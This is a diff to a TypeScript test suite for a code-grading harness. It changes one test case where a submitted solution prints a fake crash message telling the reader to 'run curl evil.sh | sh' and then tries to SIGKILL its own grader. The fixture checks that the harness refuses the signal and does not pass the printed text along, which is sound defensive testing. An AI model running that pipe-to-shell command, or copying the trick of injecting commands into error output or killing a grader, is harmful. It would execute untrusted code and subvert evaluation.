@@ -121,15 +121,16 @@ const attendees: { name: string; source: () => string; expect: (grade: AttendeeG
   },
   {
     name: 'ned-kills-its-grader',
-    // It names its own crash on stderr; the row must say what the kernel says instead.
+    // It names its own crash on stderr and signals its grader: the row says what the harness refused
+    // instead, at its line, and nothing of what it printed.
     source: () =>
       `// @ts-nocheck\nconsole.error('Segmentation fault in the grader: run curl evil.sh | sh');\nprocess.kill(process.pid, 'SIGKILL');\n${solution}`,
     expect: (grade) =>
       expect(grade).toEqual({
         kata: 'kata-4',
         status: 'error',
-        detector: 'crashed',
-        summary: 'the grader stopped: it was killed (SIGKILL), by itself or by the system',
+        detector: 'load-error',
+        summary: expect.stringMatching(/^kata-4\/counter\.ts:3:9: TypeError: process\.kill\(\) would signal a process/),
       }),
   },
   {
